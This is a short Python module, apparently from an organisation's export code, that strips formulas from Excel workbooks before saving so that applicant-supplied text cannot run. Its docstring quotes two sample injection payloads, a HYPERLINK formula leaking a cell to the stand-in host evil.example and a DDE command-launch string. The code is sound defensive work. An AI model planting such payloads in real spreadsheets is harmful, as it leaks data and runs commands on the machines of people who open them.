"""Every Excel file CCHC writes is saved here, so none carries a formula made of someone's text.

openpyxl turns any string that starts with ``=`` into a formula: an applicant named
``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would become a live link in the register that
staff open, and ``=cmd|' /C calc'!A0`` a DDE call. CCHC's exports never compute in the sheet (the
figures are computed in the database), so before saving every formula cell goes back to being the
text it was, exactly as typed. A string cell in an .xlsx file is never evaluated, whatever it starts
with (``+``, ``-``, ``@`` are only dangerous in CSV, which CCHC does not write).
"""

from __future__ import annotations

import io


def as_text(workbook) -> int:
    """Turn every formula cell of ``workbook`` into a text cell with the same characters; returns how many."""
    changed = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
                    changed += 1
    return changed


def workbook_bytes(workbook) -> bytes:
    """The .xlsx bytes of ``workbook``, with no formula in it (``as_text``)."""
    as_text(workbook)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()
